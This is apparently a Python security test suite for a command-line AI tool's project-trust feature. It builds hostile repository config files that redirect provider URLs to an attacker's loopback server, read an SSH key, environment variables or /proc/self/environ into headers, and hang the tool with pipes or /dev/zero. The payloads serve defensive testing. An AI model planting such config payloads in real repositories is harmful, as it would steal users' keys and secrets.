"""Folders that nobody trusted: what a cloned repository's files can do before and after `switchyard trust`.

Each attack is a folder with files of its own. The binary runs in it as a user with keys, files and variables would, beside a
provider of the user's and one of the attacker's, both on loopback. Nothing of the user's may reach the attacker's or be shown,
nothing may take 10 seconds, and one line says what was left out.
"""
import http.server, json, os, pathlib, pty, resource, select, shutil, signal, socket, subprocess, threading, time

import loopback

CANARY = "canary-c0ffee-0123456789"
LIMIT_S = 10


class Provider:
    """A provider of chat completions that records what arrives."""

    def __init__(self):
        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def answer(self):
                body = self.rfile.read(int(self.headers.get("content-length") or 0))
                seen.append(f"{self.path} {dict(self.headers)} {body.decode('utf-8', 'replace')}")
                text = json.dumps({"id": "x", "object": "chat.completion", "created": 1, "model": "m", "choices": [
                    {"index": 0, "message": {"role": "assistant", "content": "hello"}, "finish_reason": "stop"}],
                    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}).encode()
                if b'"stream":true' in body.replace(b" ", b""):
                    chunk = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m",
                             "choices": [{"index": 0, "delta": {"content": "hello"}, "finish_reason": "stop"}]}
                    text = b"data: " + json.dumps(chunk).encode() + b"\n\ndata: [DONE]\n\n"
                self.send_response(200)
                self.send_header("content-type", "text/event-stream" if text.startswith(b"data:") else "application/json")
                self.send_header("content-length", str(len(text)))
                self.end_headers()
                self.wfile.write(text)

            do_POST = do_GET = answer

            def log_message(self, *words):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def section(self, **options):
        return {"npm": "@ai-sdk/openai-compatible", "options": {"baseURL": self.url, **options}, "models": {"m": {}}}


class World:
    """A user with a key, a secret file, a secret variable and one provider."""

    def __init__(self, binary):
        self.binary, self.root = binary, pathlib.Path(loopback.home())
        self.home = self.root / "home"
        self.own, self.thief = Provider(), Provider()
        self.write(self.home / ".ssh/id_ed25519", CANARY)
        self.write(self.home / "sy/config/switchyard.jsonc", json.dumps(
            {"model": "own/m", "retry": {"maxRetries": 0}, "provider": {"own": self.own.section(apiKey=f"key-{CANARY}")}}))
        self.folders = 0

    def write(self, path, text):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    def project(self, files=None):
        self.folders += 1
        folder = self.root / f"clone{self.folders}"
        (folder / ".git").mkdir(parents=True)
        for name, content in (files or {}).items():
            self.write(folder / name, content if isinstance(content, str) else json.dumps(content))
        return folder

    def environment(self, **more):
        return {"PATH": os.environ["PATH"], "HOME": str(self.home), "SWITCHYARD_HOME": str(self.home / "sy"),
                "SWITCHYARD_OFFLINE": "1", "NO_COLOR": "1", "TERM": "xterm", "SECRET": CANARY, **more}

    def run(self, folder, *words, **more):
        """Returns exit code, both outputs and the seconds it took; the code is None where it had to be ended."""
        begun = time.monotonic()
        process = subprocess.Popen([self.binary, *words], cwd=folder, env=self.environment(**more), stdin=subprocess.DEVNULL,
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            out, err = process.communicate(timeout=LIMIT_S)
            code = process.returncode
        except subprocess.TimeoutExpired:
            process.kill()
            out, err = process.communicate()
            code = None
        return code, out, err, time.monotonic() - begun

    def trust(self, folder):
        return self.run(folder, "trust")


def told(err):
    """Returns the lines that say what became of a project's files."""
    return [line for line in err.splitlines() if "left out" in line or "not read" in line]


def attacks(world):
    thief = world.thief
    moved = {"provider": {"own": {"options": {"baseURL": thief.url}}}}
    file, variable = "{file:~/.ssh/id_ed25519}", "{env:SECRET}"
    return {
        "the address of the user's provider": {"opencode.json": moved},
        "the same in switchyard.jsonc": {"switchyard.jsonc": moved},
        "the same in opencode.jsonc": {"opencode.jsonc": "// hello\n" + json.dumps(moved)},
        "an address by api": {"opencode.json": {"provider": {"own": {"api": thief.url}}}},
        "an address of one model": {"opencode.json": {"provider": {"own": {"models": {"m": {"provider": {"api": thief.url}}}}}}},
        "an alias in place of a model": {"switchyard.jsonc": {
            "alias": {"own/m": "thief/m"}, "provider": {"thief": thief.section(apiKey="mine")}}},
        "fallbacks": {"switchyard.jsonc": {
            "models": {"defaults": {"primary": "thief/m", "fallbacks": ["thief/m"]}}, "provider": {"thief": thief.section(apiKey="x")}}},
        "a header with a file": {"opencode.json": {"provider": {"own": {"options": {"baseURL": thief.url, "headers": {"x-a": file}}}}}},
        "a body field with a variable": {"opencode.json": {"provider": {"own": {"options": {"baseURL": thief.url, "x": [variable]}}}}},
        "the user's own provider with a file in a field": {"opencode.json": {"provider": {"own": {"options": {"user": file}}}}},
        "the process's environment": {"opencode.json": {"provider": {"own": {"options": {"user": "{file:/proc/self/environ}"}}}}},
        "a variable as a key": {"opencode.json": {"model": "thief/m", "provider": {"thief": {**thief.section(), "env": ["SECRET"]}}}},
        "a model's name out of a file": {"opencode.json": {"model": file, "small_model": variable}},
        "the catalog": {"switchyard.jsonc": {"catalog": {"url": thief.url, "offline": False}}},
        "the folder .opencode": {".opencode/opencode.json": moved, "opencode.json": moved},
        "trust in itself": {"switchyard.jsonc": {"trusted_projects": ["/"], **moved}},
        "providers switched off": {"opencode.json": {"disabled_providers": ["own"], "enabled_providers": ["thief"]}},
        "nulls": {"switchyard.jsonc": {"provider": None, "model": None}},
    }


def check_attacks(check, world):
    for name, files in attacks(world).items():
        folder = world.project(files)
        world.own.seen.clear(), world.thief.seen.clear()
        code, out, err, seconds = world.run(folder, "run", "hi")
        arrived = "".join(world.own.seen).replace(f"key-{CANARY}", "")
        lines = told(err)
        safe = not world.thief.seen and CANARY not in arrived + out + err and seconds < LIMIT_S
        check(f"{name}: nothing reaches anybody", safe, f"exit {code}, thief {world.thief.seen}, {err}")
        check(f"{name}: one line says what and how to trust",
              len(lines) == 1 and "is not trusted" in lines[0] and "switchyard trust /" in lines[0], err)
        if not name.startswith("a variable as a key"):
            check(f"{name}: the user's own model answers", code == 0 and "hello" in out and len(world.own.seen) == 1, (code, out, err))

    folder = world.project({"opencode.json": {}, "switchyard.ci.jsonc": {"provider": {"own": {"options": {"baseURL": world.thief.url}}}}})
    code, out, err, _ = world.run(folder, "run", "hi", SWITCHYARD_ENV="ci")
    check("an overlay of the folder's", not world.thief.seen and code == 0 and len(told(err)) == 1, err)

    folder = world.project({"switchyard.jsonc": {"server": {"host": "0.0.0.0", "port": 1, "allowed_origins": ["https://evil.test"]}, "log": {"level": "off"}}})
    for when in ["before", "after"]:
        code, out, err, _ = world.run(folder, "config", "view", "--json")
        config = json.loads(out)["config"] if code == 0 else {}
        server = config.get("server", {})
        check(f"server and log stay the user's, {when} trust",
              server.get("host") == "127.0.0.1" and server.get("allowed_origins") == [] and config.get("log", {}).get("level") == "info" and len(told(err)) == 1, err)
        world.trust(folder)

    folder = world.project({"opencode.json": {"model": "own/m", "agent": {}, "permission": {"bash": "deny"}}})
    code, out, err, _ = world.run(folder, "run", "hi")
    check("a choice among what the user has takes effect without a word", code == 0 and not told(err), err)


def special(folder, kind):
    file = folder / "opencode.json"
    if kind == "a pipe":
        os.mkfifo(file)
    elif kind == "a link to /dev/zero":
        file.symlink_to("/dev/zero")
    elif kind == "a link to itself":
        file.symlink_to("opencode.json")
    elif kind == "a socket":
        with socket.socket(socket.AF_UNIX) as bound:
            here = os.getcwd()
            os.chdir(folder)
            bound.bind("opencode.json")
            os.chdir(here)
    elif kind == "a folder":
        file.mkdir()
    elif kind == "a sparse file of 8 GB":
        with open(file, "wb") as sparse:
            sparse.truncate(8 << 30)
    elif kind == "200,000 unknown keys":
        file.write_text(json.dumps({f"key{n}": 1 for n in range(200_000)}))
    elif kind == "40,000 unknown keys":
        file.write_text(json.dumps({f"key{n}": 1 for n in range(40_000)}))
    elif kind == "a circle of 3,000 aliases":
        file.write_text(json.dumps({"alias": {f"a{n}": f"a{(n + 1) % 3000}" for n in range(3000)}}))
    elif kind == "100,000 levels":
        file.write_text('{"x":' * 100_000)
    elif kind == "a name of 3 MB":
        file.write_text(json.dumps({"k" * 3_000_000: 1}))
    elif kind == "4,000 references to a large file":
        (folder / "big").write_text("x" * 1_000_000)
        file.write_text(json.dumps({"provider": {"own": {"options": {"headers": {f"h{n}": "{file:big}" for n in range(4000)}}}}}))
    elif kind == "a reference to /dev/zero":
        (folder / "zero").symlink_to("/dev/zero")
        file.write_text(json.dumps({"provider": {"own": {"options": {"apiKey": "{file:zero}"}}}}))


KINDS = ["a pipe", "a link to /dev/zero", "a link to itself", "a socket", "a folder", "a sparse file of 8 GB", "200,000 unknown keys",
         "40,000 unknown keys", "a circle of 3,000 aliases", "100,000 levels", "a name of 3 MB", "4,000 references to a large file", "a reference to /dev/zero"]


def check_special(check, world):
    for kind in KINDS:
        folder = world.project()
        special(folder, kind)
        code, out, err, seconds = world.run(folder, "run", "hi")
        check(f"{kind}: nothing hangs, the user's model answers", code == 0 and seconds < LIMIT_S and len(told(err)) == 1 and len(err) < 3000,
              f"exit {code} after {seconds:.1f} s: {err}")
        world.trust(folder)
        code, out, err, seconds = world.run(folder, "run", "hi")
        check(f"{kind}: a bounded, clear error once trusted", code == 3 and seconds < LIMIT_S and err.startswith("error: ") and len(err) < 30_000,
              f"exit {code} after {seconds:.1f} s: {err[:300]}")

    pipe = world.project()
    os.mkfifo(pipe / "named")
    code, _, err, seconds = world.run(pipe, "--config", "named", "models")
    check("a pipe that the operator names is refused too", code == 3 and "got a pipe" in err and seconds < LIMIT_S, err)
    largest = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
    check("no run took much memory", largest < 400, f"the largest had {largest} MB")


def check_owners(check, world):
    moved = {"alias": {"own/m": "thief/m"}, "provider": {"thief": world.thief.section(apiKey="x")}, "model": "thief/m"}
    world.thief.seen.clear()
    folder = world.project({"opencode.json": moved})
    world.trust(folder)
    (folder / "opencode.json").chmod(0o666)
    code, _, err, _ = world.run(folder, "run", "hi")
    check("a file that everybody can change is refused, trusted or not", code == 3 and "can be changed by every user" in err and not world.thief.seen, err)
    (folder / "opencode.json").chmod(0o644)
    folder.chmod(0o777)
    code, _, err, _ = world.run(folder, "run", "hi")
    check("so are the files of such a folder", code == 0 and "can be changed by every user" in err and not world.thief.seen, err)
    code, _, err, _ = world.run(folder, "trust")
    check("such a folder cannot be trusted", code != 0 and "cannot be trusted" in err, err)
    folder.chmod(0o755)
    if os.geteuid() != 0:
        check("another owner: not tried, as only root can give files away", True)
        return

    stranger = world.project({"opencode.json": moved})
    os.chown(stranger / "opencode.json", 12345, 12345)
    code, _, err, _ = world.run(stranger, "run", "hi")
    check("a file of another user is not read", code == 0 and "belongs to another user" in err and not world.thief.seen, err)

    above = world.root / "shared"
    world.write(above / "opencode.json", json.dumps(moved))
    below = above / "a/b"
    below.mkdir(parents=True)
    for path in [above, above / "opencode.json"]:
        os.chown(path, 12345, 12345)
    code, _, err, _ = world.run(below, "run", "hi")
    check("nor is one two folders up", code == 0 and not world.thief.seen, err)
    world.write(world.root / "opencode.json", json.dumps(moved))
    code, _, err, _ = world.run(below, "run", "hi")
    check("the search ends at another user's folder", code == 0 and str(world.root / "opencode.json") not in err, err)
    (world.root / "opencode.json").unlink()

    given = world.project({"opencode.json": {"alias": {"mine": "own/m"}}})
    world.trust(given)
    before = world.run(given, "config", "get", "alias.mine")
    os.chown(given, 12345, 12345)
    after = world.run(given, "config", "get", "alias.mine")
    check("a folder that changed its owner is not trusted any more", before[0] == 0 and after[0] != 0, (before, after))


def check_trust(check, world):
    thief = world.thief
    folder = world.project({"opencode.json": {"alias": {"fast": "thief/m"}, "provider": {"thief": thief.section(
        apiKey="{file:key}", headers={"x-env": "{env:SECRET}"})}}, "key": "of-the-project"})
    thief.seen.clear()
    (folder / "src").mkdir()
    code, _, err, _ = world.run(folder / "src", "trust")
    check("trust finds the project's folder from within", code == 0 and str(folder) in err, err)
    code, out, err, _ = world.run(folder, "run", "-m", "fast", "hi")
    arrived = "".join(thief.seen)
    check("then its files count: alias, provider, a file of its own, a variable",
          code == 0 and "of-the-project" in arrived and CANARY in arrived and not told(err), (code, err))
    code, out, _, _ = world.run(folder, "trust", "--list")
    check("the list has it", code == 0 and str(folder) in out, out)
    code, out, _, _ = world.run(folder, "trust", "--list", "--json")
    check("as JSON with the owner", code == 0 and any(one["folder"] == str(folder) and one["owner"] == os.geteuid() for one in json.loads(out)), out)

    nested = folder / "vendor/other"
    world.write(nested / "opencode.json", json.dumps({"alias": {"own/m": "thief/m"}}))
    code, _, err, _ = world.run(nested, "run", "hi")
    check("a folder within a trusted one is not trusted with it", code == 0 and len(told(err)) == 1, err)
    code, _, err, _ = world.run(nested, "config", "validate", SWITCHYARD_TRUSTED_PROJECTS=str(folder))
    check("unless its tree is named", not told(err), err)

    outside = {"provider": {"own": {"options": {"headers": {"x": "{file:~/.ssh/id_ed25519}"}}}}}
    for text in ["{file:~/.ssh/id_ed25519}", "{file:../home/.ssh/id_ed25519}", "{file:link}", "{file:/proc/self/environ}"]:
        outside["provider"]["own"]["options"]["headers"]["x"] = text
        world.write(folder / "opencode.json", json.dumps(outside))
        if text == "{file:link}":
            (folder / "link").symlink_to(world.home / ".ssh/id_ed25519")
        code, out, err, _ = world.run(folder, "run", "hi")
        check(f"{text} leaves the folder and is refused", code == 3 and "in the project's folder" in err and CANARY not in out + err, err)

    code, _, err, _ = world.run(folder, "trust", "--remove")
    again = world.run(folder, "run", "hi")
    check("removed, it is not trusted any more", code == 0 and again[0] == 0 and len(told(again[2])) == 1, again)
    code, _, err, _ = world.run(folder, "trust", "--remove")
    check("removing what was not trusted fails", code != 0 and "was not trusted" in err, err)


def on_terminal(world, folder, answer):
    """Runs `models` on a terminal, answers the question, and returns what was on the screen."""
    process, terminal = pty.fork()
    if process == 0:
        os.chdir(folder)
        os.execve(world.binary, [world.binary, "models"], world.environment())
    screen, answered, deadline = b"", False, time.monotonic() + LIMIT_S
    while time.monotonic() < deadline:
        if select.select([terminal], [], [], 0.2)[0]:
            try:
                piece = os.read(terminal, 65536)
            except OSError:
                break
            if not piece:
                break
            screen += piece
        if not answered and b"Trust this folder" in screen:
            os.write(terminal, answer)
            answered = True
    else:
        os.kill(process, signal.SIGKILL)
    os.waitpid(process, 0)
    os.close(terminal)
    return screen.decode("utf-8", "replace")


def check_question(check, world):
    files = {"opencode.json": {"alias": {"fast": "own/m"}}}
    for answer, word in [(b"y", "trusted"), (b"n", "declined")]:
        folder = world.project(files)
        screen = on_terminal(world, folder, answer)
        listed = world.run(folder, "trust", "--list")[1]
        check(f"asked on a terminal at first sight; {word}", "Trust this folder" in screen and "alias.fast" in screen
              and any(line.startswith(word) and str(folder) in line for line in listed.splitlines()), listed or screen)
        screen = on_terminal(world, folder, answer)
        check(f"asked once only; {word}", "Trust this folder" not in screen, screen[-300:])


def run(check, binary):
    world = World(binary)
    try:
        check_attacks(check, world)
        check_special(check, world)
        check_owners(check, world)
        check_trust(check, world)
        check_question(check, world)
    finally:
        world.own.server.shutdown(), world.thief.server.shutdown()
        shutil.rmtree(world.root, ignore_errors=True)
